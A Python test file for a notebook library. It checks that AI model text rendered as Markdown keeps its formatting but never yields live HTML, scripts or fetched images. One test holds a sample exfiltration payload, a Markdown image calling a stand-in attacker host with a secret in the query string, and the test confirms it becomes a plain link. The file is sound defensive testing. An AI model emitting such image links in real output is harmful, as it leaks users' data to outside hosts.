"""Model text displayed as Markdown: formatting renders, HTML in it never becomes live."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from langfx_nb.notebook.markdown import MarkdownText, markdown_html

from .markdown_payloads import PAYLOADS

# What markdown-it's CommonMark renderer may produce from text, and nothing more.
_TAGS = {
    "div", "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "br",
}  # fmt: skip
_ATTRS = {("div", "class"), ("code", "class"), ("a", "href"), ("a", "title"), ("ol", "start")}
_SAFE_SCHEMES = ("http://", "https://", "mailto:", "#", "/", ".")


class _Check(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if (tag, name) not in _ATTRS:
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name == "href":
                href = (value or "").strip().lower()
                if ":" in href.split("/")[0] and not href.startswith(_SAFE_SCHEMES):
                    self.problems.append(f"href {value!r}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def _problems(html: str) -> list[str]:
    check = _Check()
    check.feed(html)
    check.close()
    return check.problems


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_payload_renders_without_live_html(name: str) -> None:
    html = MarkdownText(PAYLOADS[name])._repr_html_()
    assert _problems(html) == []
    assert "<img" not in html and "<script" not in html  # shown as &lt;img, &lt;script


@given(st.text())
def test_any_text_renders_only_allowed_tags_and_attributes(text: str) -> None:
    assert _problems(markdown_html(text)) == []


@given(st.lists(st.sampled_from([*PAYLOADS.values(), "`", "``", "\\", "\n", "```", "~~~", "<"])))
def test_payload_pieces_combined_stay_text(pieces: list[str]) -> None:
    assert _problems(markdown_html("".join(pieces))) == []


def test_formatting_still_renders_and_html_shows_as_text() -> None:
    html = MarkdownText(
        "The capital is **Paris**.\n\n- on the Seine\n\n<b>HTML</b> & `a<b`\n\n"
        "```html\n<b>x</b>\n```\n[docs](https://example.com)"
    )._repr_html_()
    assert "<strong>Paris</strong>" in html and "<li>on the Seine</li>" in html
    assert "&lt;b&gt;HTML&lt;/b&gt; &amp;" in html
    assert "<code>a&lt;b</code>" in html
    assert '<code class="language-html">&lt;b&gt;x&lt;/b&gt;' in html
    assert '<a href="https://example.com">docs</a>' in html


def test_images_are_not_fetched() -> None:
    html = markdown_html("![tracker](https://evil.example/leak?q=secret)")
    assert "<img" not in html
    assert 'href="https://evil.example/leak?q=secret"' in html  # a link the user may follow


def test_display_offers_html_and_text_but_no_markdown() -> None:
    text = MarkdownText("**hi**")
    assert text == "**hi**" and isinstance(text, str)
    assert not hasattr(text, "_repr_markdown_")
